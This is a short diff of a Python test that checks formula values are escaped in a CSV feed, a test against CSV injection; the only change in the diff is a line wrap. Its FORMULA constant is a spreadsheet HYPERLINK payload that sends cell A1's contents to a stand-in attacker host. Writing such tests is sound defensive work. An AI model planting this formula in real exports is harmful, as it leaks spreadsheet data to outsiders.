@@ -12,7 +12,8 @@ FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
-async def test_a_promotion_and_a_model_named_as_formulas_are_escaped_in_the_csv_feed(committed_client, committed_engine):
+async def test_a_promotion_and_a_model_named_as_formulas_are_escaped_in_the_csv_feed(committed_client,
+                                                                                    committed_engine):
     model_id, writer = await committed_model_and_key(committed_engine, "csvinjection")
     _, reader = await committed_model_and_key(committed_engine, "csvreader", "feeds:read")
     assert (await committed_client.patch(f"/v1/models/{model_id}", json={"name": FORMULA},
